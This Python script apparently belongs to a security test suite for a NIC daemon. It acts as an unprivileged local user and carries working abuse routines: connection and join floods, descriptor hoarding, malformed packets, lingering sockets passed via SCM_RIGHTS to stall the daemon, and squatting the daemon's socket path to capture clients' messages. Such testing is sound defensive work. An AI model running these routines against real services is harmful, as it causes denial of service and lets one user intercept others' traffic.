# SPDX-License-Identifier: Apache-2.0
"""Attempts of an unprivileged user on a NIC's daemon: a program of its own, for it runs as that user.

    attacker.py VERB SOCKET MAGIC ADDRESS OTHER [NUMBER]

ADDRESS is the host's own, OTHER another host's, MAGIC that of the talk. Prints a line once it has done its
worst, and holds on until its standard input ends. Every verb is a function here.
"""

import array
import contextlib
import os
import select
import socket
import struct
import sys
import time

JOIN, STATUS, STOP, ADDRESS = range(4)
NOBODY = 0xFFFFFFFF
STEPS = 16


class Daemon:
    def __init__(self, path: str, magic: str, own: str, other: str):
        self.path, self.magic, self.own, self.other = path, int(magic), own, other

    def connect(self) -> socket.socket:
        connection = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        connection.settimeout(20)
        connection.connect(self.path)
        return connection

    def request(self, verb: int, key: int = 0, port: int = 0, places=(), steps=(), ranks: int = 2) -> bytes:
        program = b"".join(struct.pack("=IIHH", *step) for step in steps).ljust(STEPS * 12, b"\0")
        head = struct.pack("=IIQQQQIIIIII", self.magic, verb, key, 0, 0, 0, 1, 0, ranks, port, 0, len(steps))
        tail = b"".join(struct.pack("=I", rank) + socket.inet_aton(address) for rank, address in places)
        return head + program + tail

    def join(self, port: int, key: int | None = None) -> bytes:
        """Of rank 0 of two."""
        key = key or int.from_bytes(os.urandom(7), "big") + 1
        return self.request(JOIN, key, port, [(0, self.own), (1, self.other)], [(1, 1, 0, 0)])

    def unreachable(self, port: int) -> bytes:
        """Of rank 0 of 64 with as many steps as there may be; nobody has most of the addresses."""
        net = self.own.rsplit(".", 1)[0]
        places = [(0, self.own), *((rank, f"{net}.{100 + rank}") for rank in range(1, 64))]
        steps = [(rank, rank + STEPS, 0, 0) for rank in range(1, STEPS + 1)]
        return self.request(JOIN, int.from_bytes(os.urandom(7), "big") + 1, port, places, steps, ranks=64)


def wake_socket(daemon: Daemon) -> socket.socket:
    wake = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    wake.bind((daemon.own, 0))
    return wake


def ask(connection: socket.socket, packet: bytes) -> tuple[int | None, str, list[int]]:
    """The error, the text, the descriptors; no error when the daemon hangs up."""
    try:
        connection.send(packet)
        said, ancillary, *_ = connection.recvmsg(1 << 17, 64)
    except (ConnectionError, BrokenPipeError):
        return None, "", []
    files = array.array("i")
    for _, _, data in ancillary:
        files.frombytes(data[: len(data) - len(data) % files.itemsize])
    if len(said) < 8:
        return None, "", list(files)
    return struct.unpack("=i", said[4:8])[0], said[8:].decode(), list(files)


def hold(daemon: Daemon, number: int) -> str:
    """Connections that ask for nothing."""
    held = []
    for _ in range(number):
        one = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        one.setblocking(False)
        with contextlib.suppress(OSError):
            one.connect(daemon.path)
        held.append(one)
    globals()["kept"] = held
    return str(len(held))


def flood(daemon: Daemon, number: int) -> str:
    """As many joins at once, again and again, for as long as somebody wants to hear of them."""
    port = wake_socket(daemon)
    print("began", flush=True)
    connections: list[socket.socket] = []
    while not select.select([sys.stdin], [], [], 0)[0]:
        while len(connections) < number:
            with contextlib.suppress(OSError):
                connections.append(daemon.connect())
                connections[-1].send(daemon.unreachable(port.getsockname()[1]))
        time.sleep(0.005)
        for one in connections[: number // 2]:
            one.close()
        del connections[: number // 2]
    return "ended"


def keep_maps(daemon: Daemon, number: int) -> str:
    """Joins and leaves, and keeps what it was given."""
    port, kept, errors = wake_socket(daemon), [], []
    for _ in range(number):
        with daemon.connect() as connection:
            error, _, files = ask(connection, daemon.join(port.getsockname()[1]))
        errors.append(error)
        kept += files
    return " ".join(map(str, errors))


def malformed(daemon: Daemon, number: int) -> str:
    """Requests that are none."""
    port = wake_socket(daemon).getsockname()[1]
    whole = daemon.join(port)
    answers = []
    packets = (
        daemon.request(99),
        daemon.request(ADDRESS) + b"\0",
        daemon.request(ADDRESS)[:-1],
        whole + bytes(8),
        whole[:-4],
        b"",
        os.urandom(4096),
    )
    for packet in packets:
        with daemon.connect() as connection:
            answers.append(ask(connection, packet)[0])
    return " ".join(map(str, answers))


def other_port(daemon: Daemon, number: int) -> str:
    """Has another user's port woken."""
    with daemon.connect() as connection:
        error, text, _ = ask(connection, daemon.join(number))
    return f"{error} {text}"


def send_files(daemon: Daemon, number: int) -> str:
    """Descriptors whose closing takes as long as their sender likes: connections that linger."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=number)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    kept = globals().setdefault("kept", [listener])
    for _ in range(number):
        one = socket.create_connection(listener.getsockname())
        one.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                one.send(bytes(1 << 16))
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
        connection = daemon.connect()
        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [one.fileno()]))]
        try:
            connection.sendmsg([daemon.request(ADDRESS)], rights)
            one.close()  # now the daemon has the last descriptor
        except OSError:
            kept.append(one)
        kept.append(connection)
    return "sent"


def listen(daemon: Daemon, number: int) -> str:
    """Binds a UDP port of all addresses, and tells how many frames come to it."""
    everywhere = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    everywhere.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    everywhere.bind(("", number))
    everywhere.setblocking(False)
    print("began", flush=True)
    sys.stdin.readline()
    heard = 0
    with contextlib.suppress(BlockingIOError):
        while True:
            heard += everywhere.recv(2048).startswith(b"tol2")
    return f"heard {heard}"


def squat(daemon: Daemon, number: int) -> str:
    """Sits where a daemon was, and tells what it hears."""
    with contextlib.suppress(FileNotFoundError):
        os.unlink(daemon.path)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    listener.bind(daemon.path)
    os.chmod(daemon.path, 0o777)
    listener.listen(8)
    print("began", flush=True)
    connection, _ = listener.accept()
    connection.settimeout(20)
    return f"heard {len(connection.recv(1 << 17))}"


if __name__ == "__main__":
    verb, *words = sys.argv[1:]
    print(globals()[verb](Daemon(*words[:4]), int(words[4]) if len(words) > 4 else 0), flush=True)
    sys.stdin.read()
    os._exit(0)  # closing its sockets one by one may take as long as it asked others to wait
